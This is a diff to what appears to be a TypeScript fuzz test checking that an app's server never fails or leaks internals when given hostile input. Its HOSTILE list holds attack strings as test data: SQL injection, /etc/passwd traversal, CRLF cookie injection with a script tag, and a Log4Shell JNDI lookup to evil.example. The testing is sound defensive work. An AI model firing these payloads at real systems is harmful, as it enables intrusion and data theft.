@@ -6,21 +6,21 @@ import { type Answered, ask, type Person, signUpPerson } from '../testing/person
 import { PROCEDURES, type ProcedureFacts } from '../testing/procedures-of.ts';
 import { createTestApp, type TestApp } from '../testing/test-app.ts';
 
-/** What people type who want to see what happens. */
+/** What no text can be stored with: tried everywhere. */
+const UNSTORABLE: readonly unknown[] = ['a\u0000b', 'half a letter \ud800'];
+
+/** What else people type who want to see what happens: each place gets one of them in turn. */
 const HOSTILE: readonly unknown[] = [
   `'; drop table earning; --`,
-  `" or 1=1) union select password_hash from account --`,
-  'a\u0000b',
-  'half a letter \ud800',
-  'x\r\nSet-Cookie: earntrack_session=stolen\r\n\r\n<script>',
   '../../../../etc/passwd',
-  '${jndi:ldap://evil.example/a} {{7*7}} %s%n',
+  `" or 1=1) union values (1) --`,
   'x'.repeat(100_000),
+  'x\r\nSet-Cookie: earntrack_session=stolen\r\n\r\n<script>',
   1e300,
+  '${jndi:ldap://evil.example/a} {{7*7}} %s%n',
   ['in', ['a', ['list']]],
   { toString: 'x', length: 1e9 },
 ];
-
 /** What an answer never holds: code, statements, places on the disk, names of what is inside. */
 const INSIDE =
   /\bat \w[\w.]* \(|node:internal|node_modules|\.ts:\d|syntax error|relation "|violates|select .* from|insert into|argon2id|\/home\/|\/tmp\//i;
@@ -66,13 +66,13 @@ test('no text of any procedure, whatever stands in it, makes the server fail or 
     const [input] = fc.sample(arbitraryOf(procedure.input, things), { numRuns: 1, seed: 3 });
     for (const way of textsIn(input)) {
       tried.texts += 1;
-      for (const what of HOSTILE) {
+      for (const what of [...UNSTORABLE, HOSTILE[tried.texts % HOSTILE.length]]) {
         const { status, body, headers } = await send(procedure, putAt(input, way, what));
         const asked = `${procedure.path} ${way.join('.')} ${JSON.stringify(what).slice(0, 60)}`;
         expect(status, asked).toBeLessThan(500);
         expect(body, asked).not.toMatch(INSIDE);
         expect(headers['content-type'], asked).toContain('application/json');
-        if (status >= 400) tried.refused += 1;
+        tried.refused += Number(status >= 400);
       }
     }
   }
